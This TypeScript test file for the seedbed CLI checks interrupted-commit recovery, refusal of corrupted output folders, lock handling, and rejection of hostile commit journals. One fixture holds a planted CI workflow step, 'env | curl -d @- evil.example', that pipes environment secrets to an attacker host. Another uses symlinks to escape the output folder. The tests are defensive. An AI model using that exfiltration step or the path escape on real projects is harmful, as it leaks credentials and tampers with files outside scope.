/**
 * Issue 17, item 2, at the command line: every command first completes a commit a killed synth
 * left, and `validate`/`diff` refuse (exit 4, nothing read) a folder where that is impossible.
 */
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { sha256Hex } from '../../lib/core/hash';
import { JOURNAL_FILE, LOCK_FILE, MANAGED_ENTRIES, stageTree, writeTree } from '../../lib/output/writer';
import { seedbed } from '../support/cli';
import { REPO_ROOT } from '../support/fleets';

const FLEET = path.join(REPO_ROOT, 'fleets', 'vsphere.ts');

/** An output folder whose commit stopped part-way and whose staging folder is gone: it cannot be completed. */
function tornBeyondRepair(dir: string): void {
  writeTree(dir, new Map([['fleet.json', '{}\n'], ['seeds/a/x.yaml', 'old\n'], ['seeds/a/y.yaml', 'old\n']]));
  const staged = stageTree(dir, new Map([['fleet.json', '{}\n'], ['seeds/a/x.yaml', 'new\n'], ['seeds/a/y.yaml', 'new\n']]), {
    onCommitStep: (_i, what) => { if (what === 'rename seeds/a/y.yaml') throw Object.assign(new Error('EIO'), { code: 'EIO' }); },
  });
  expect(() => staged.commit()).toThrow(/^EIO \(the commit into/);
  for (const e of fs.readdirSync(dir)) if (e.startsWith('.seedbed-staging-')) fs.rmSync(path.join(dir, e), { recursive: true });
}

test('validate and diff refuse a torn output folder they cannot repair: exit 4, the files named, nothing read', async () => {
  const cwd = fs.mkdtempSync(path.join(os.tmpdir(), 'seedbed-torn-'));
  const out = path.join(cwd, 'snapshots', 'vsphere');
  tornBeyondRepair(out);
  const expected = `error: ${out} holds an interrupted commit (.seedbed-journal) that cannot be completed: 1 file without their staged content (seeds/a/y.yaml); `
    + 'nothing was read; restore the folder from Git (git checkout -- <folder>), remove the journal and synth again';
  const validate = await seedbed(['validate', FLEET, '--now', '2026-11-25', '--no-cache'], { cwd });
  expect({ code: validate.code, stderr: validate.stderr.trim(), stdout: validate.stdout }).toEqual({ code: 4, stderr: expected, stdout: '' });
  const diff = await seedbed(['diff', FLEET, '--against-dir', out, '--now', '2026-11-25'], { cwd });
  expect({ code: diff.code, stderr: diff.stderr.trim(), stdout: diff.stdout }).toEqual({ code: 4, stderr: expected, stdout: '' });
  expect(fs.existsSync(path.join(out, JOURNAL_FILE))).toBe(true);
});

test('upgrade-plan completes a commit a killed synth left before it reads fleet.json', async () => {
  const cwd = fs.mkdtempSync(path.join(os.tmpdir(), 'seedbed-torn-'));
  const out = path.join(cwd, 'snapshots', 'vsphere');
  writeTree(out, new Map([['seeds/a/x.yaml', 'old\n'], ['seeds/a/y.yaml', 'old\n']]));
  const staged = stageTree(out, new Map([['seeds/a/x.yaml', 'new\n'], ['seeds/a/y.yaml', 'new\n']]), {
    onCommitStep: (_i, what) => { if (what === 'rename seeds/a/y.yaml') throw Object.assign(new Error('EIO'), { code: 'EIO' }); },
  });
  expect(() => staged.commit()).toThrow(/^EIO/);
  expect(fs.readFileSync(path.join(out, 'seeds/a/y.yaml'), 'utf8')).toBe('old\n');
  const r = await seedbed(['upgrade-plan', FLEET, '--now', '2026-11-25'], { cwd });
  expect(r.code).toBe(0);
  expect(fs.readFileSync(path.join(out, 'seeds/a/x.yaml'), 'utf8')).toBe('new\n');
  expect(fs.readFileSync(path.join(out, 'seeds/a/y.yaml'), 'utf8')).toBe('new\n');
  expect(fs.readdirSync(out).filter((e) => e.startsWith('.seedbed'))).toEqual([]);
});

/** The refusal of a journal seedbed never writes, as every command reports it. */
function refusal(out: string, lines: string[]): string {
  return `error: ${out} holds a commit journal (${JOURNAL_FILE}) seedbed refuses to act on; nothing was changed or read:\n`
    + `${lines.map((l) => `  ${l}`).join('\n')}\n`
    + 'a commit seedbed wrote never names these; restore the folder from Git (git checkout -- <folder>) and remove the journal and staging folder';
}

const MANAGED = `(${MANAGED_ENTRIES.join(', ')})`;

test('F1: a journal committed in a pull request cannot make diff, validate or synth delete through a link or outside the managed entries', async () => {
  const cwd = fs.mkdtempSync(path.join(os.tmpdir(), 'seedbed-hostile-'));
  const out = path.join(cwd, 'snapshots', 'vsphere');
  const outside = path.join(cwd, 'outside');
  fs.mkdirSync(outside);
  fs.writeFileSync(path.join(outside, 'keep.txt'), 'not seedbed\'s\n');
  writeTree(out, new Map([['fleet.json', '{}\n'], ['seeds/a/x.yaml', 'x\n']]));
  fs.writeFileSync(path.join(out, 'NOTES.md'), 'hand written\n');
  fs.symlinkSync('../../outside', path.join(out, 'escape'));
  fs.symlinkSync('../../../outside', path.join(out, 'seeds', 'escape'));
  const journal = '{"kind":"SeedbedCommit","staging":".seedbed-staging-1","written":{},"removed":["escape/keep.txt","NOTES.md","seeds/escape/keep.txt"]}\n';
  fs.writeFileSync(path.join(out, JOURNAL_FILE), journal);
  const expected = refusal(out, [
    `escape/keep.txt: not under seedbed's managed entries ${MANAGED}`,
    `NOTES.md: not under seedbed's managed entries ${MANAGED}`,
    'seeds/escape/keep.txt: seeds/escape is a symbolic link',
  ]);
  for (const args of [
    ['diff', FLEET, '--against-dir', out, '--now', '2026-11-25'],
    ['validate', FLEET, '--now', '2026-11-25', '--no-cache'],
    ['synth', FLEET, '--now', '2026-11-25', '--no-check', '--no-cache'],
  ]) {
    const r = await seedbed(args, { cwd });
    expect({ command: args[0], code: r.code, stderr: r.stderr.trim(), stdout: r.stdout }).toEqual({ command: args[0], code: 4, stderr: expected, stdout: '' });
    expect(fs.readFileSync(path.join(outside, 'keep.txt'), 'utf8')).toBe('not seedbed\'s\n');
    expect(fs.readFileSync(path.join(out, 'NOTES.md'), 'utf8')).toBe('hand written\n');
    expect(fs.readFileSync(path.join(out, 'seeds/a/x.yaml'), 'utf8')).toBe('x\n');
    expect(fs.readFileSync(path.join(out, JOURNAL_FILE), 'utf8')).toBe(journal);
    expect(fs.existsSync(path.join(out, LOCK_FILE))).toBe(false);
  }
});

test('F2: a committed staging folder and journal cannot make validate write outside the managed entries (a CI workflow)', async () => {
  const cwd = fs.mkdtempSync(path.join(os.tmpdir(), 'seedbed-hostile-'));
  const out = path.join(cwd, 'snapshots', 'vsphere');
  writeTree(out, new Map([['fleet.json', '{}\n'], ['seeds/a/x.yaml', 'x\n']]));
  const workflow = 'on: push\njobs: { steal: { runs-on: ubuntu-latest, steps: [ { run: "env | curl -d @- evil.example" } ] } }\n';
  fs.mkdirSync(path.join(out, '.seedbed-staging-1', '.github', 'workflows'), { recursive: true });
  fs.writeFileSync(path.join(out, '.seedbed-staging-1', '.github', 'workflows', 'ci.yml'), workflow);
  fs.writeFileSync(path.join(out, JOURNAL_FILE), JSON.stringify({
    kind: 'SeedbedCommit', staging: '.seedbed-staging-1', written: { '.github/workflows/ci.yml': sha256Hex(workflow) }, removed: [],
  }));
  const r = await seedbed(['validate', FLEET, '--now', '2026-11-25', '--no-cache'], { cwd });
  expect({ code: r.code, stderr: r.stderr.trim() }).toEqual({
    code: 4,
    stderr: refusal(out, [`.github/workflows/ci.yml: not under seedbed's managed entries ${MANAGED}`]),
  });
  expect(fs.existsSync(path.join(out, '.github'))).toBe(false);
  expect(fs.readFileSync(path.join(out, '.seedbed-staging-1', '.github', 'workflows', 'ci.yml'), 'utf8')).toBe(workflow);
});

test('F7: a synth into a folder another synth is writing exits 4 (output folder busy), not 1, and writes nothing', async () => {
  const cwd = fs.mkdtempSync(path.join(os.tmpdir(), 'seedbed-busy-'));
  const out = path.join(cwd, 'snapshots', 'vsphere');
  writeTree(out, new Map([['seeds/a/x.yaml', 'x\n']]));
  // This (running) test process holds the lock, as a synth in progress would.
  const staged = stageTree(out, new Map([['seeds/a/x.yaml', 'y\n']]));
  try {
    const r = await seedbed(['synth', FLEET, '--now', '2026-11-25', '--no-check', '--no-cache'], { cwd });
    expect(r.code).toBe(4);
    expect(r.stderr.trim()).toMatch(new RegExp(`^error: another synth is writing into ${out.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} \\(process ${process.pid} on .*, since .*\\); `
      + `nothing was written; wait for it to finish and run again \\(if none is, remove .*${LOCK_FILE.replace('.', '\\.')}\\)$`));
  } finally {
    staged.abort();
  }
  expect(fs.readFileSync(path.join(out, 'seeds/a/x.yaml'), 'utf8')).toBe('x\n');
});
